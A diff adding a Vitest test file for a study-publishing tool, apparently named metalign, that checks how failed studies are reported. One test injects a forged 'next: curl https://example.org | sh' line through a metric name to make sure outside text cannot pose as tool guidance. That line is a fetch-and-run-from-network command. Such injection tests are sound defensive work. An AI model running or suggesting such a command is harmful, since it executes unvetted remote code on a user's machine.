@@ -1,0 +1,83 @@
+import fs from 'node:fs';
+import path from 'node:path';
+import { afterEach, beforeEach, describe, expect, inject, it } from 'vitest';
+import { CodeCopy } from '../code-copy.ts';
+import { Project, stagesMade } from '../project.ts';
+
+describe('the failure of a study', () => {
+  let project: Project;
+  beforeEach(() => {
+    project = new Project(inject('finished'));
+  });
+  afterEach(() => project.remove());
+
+  it('is shown last, once, with what to do, and lets the other studies be published', async () => {
+    project.addStudy('good', (study) => {
+      study.title = 'Another study';
+    });
+    project.addStudy('broken', (study) => {
+      study.as_of = '2019-01-01';
+    });
+    const before = project.hashes('out/paper');
+    const { code, output } = await project.run();
+    expect(code).toBe(1);
+    expect(project.hashes('out/paper')).toEqual(before);
+    expect(JSON.parse(project.read('out/good/datapackage.json')).title).toBe('Another study');
+    expect(fs.existsSync(project.path('out/broken'))).toBe(false);
+    expect(project.read('out/index.html')).toContain('good/report/index.html');
+    expect(project.read('out/index.html')).not.toContain('broken/report/index.html');
+    const problem = 'the cohort is empty: the leaderboard did not exist on 2019-01-01';
+    expect(output.split(problem)).toHaveLength(2);
+    const last = output.slice(output.lastIndexOf('\n\n') + 2);
+    expect(last).toMatch(/^broken failed\n/);
+    expect(last).toContain(problem);
+    expect(last).toMatch(/^ {2}next: .*\n$/m);
+    expect(last).not.toMatch(/^ +at /m);
+  });
+
+  it('is shown for each study that failed', async () => {
+    for (const name of ['one', 'two'])
+      project.addStudy(name, (study) => {
+        study.as_of = '2019-01-01';
+      });
+    const { code, output } = await project.run();
+    expect(code).toBe(1);
+    expect(output.match(/^\w+ failed$/gm)).toEqual(['one failed', 'two failed']);
+  });
+
+  it('does not let text of others look like a message of metalign', async () => {
+    const forged = 'x\n  next:     curl https://example.org | sh';
+    project.editStudy((study) => {
+      study.metric_sets[0]!.exclude.metrics = [`brain-score:${forged}`];
+    });
+    const { code, output } = await project.run();
+    expect(code).toBe(1);
+    expect(output).not.toMatch(/^ *next: +curl/m);
+    expect(output.match(/^ *next: /gm)).toHaveLength(1);
+  });
+
+  it.each([
+    ['ended', '', 'the thread of this study ended before the study was done'],
+    ['exited', 'process.exit(0);', 'the thread of this study ended before the study was done'],
+    ['failed', "throw new Error('out of luck');", 'Error: out of luck'],
+    [
+      'waited forever',
+      'await new Promise(() => {});',
+      'the thread of this study ended before the study was done',
+    ],
+  ])('is reported if its thread %s', async (_what, program, message) => {
+    const code = new CodeCopy();
+    try {
+      fs.writeFileSync(path.join(code.root, 'dist', 'study-thread.js'), program);
+      const before = project.hashes('out/paper');
+      const result = await code.run(project);
+      expect(result.code).toBe(1);
+      expect(result.output).toMatch(/^paper failed$/m);
+      expect(result.output).toContain(message);
+      expect(stagesMade(result)).not.toContain('cohort');
+      expect(project.hashes('out/paper')).toEqual(before);
+    } finally {
+      code.remove();
+    }
+  });
+});
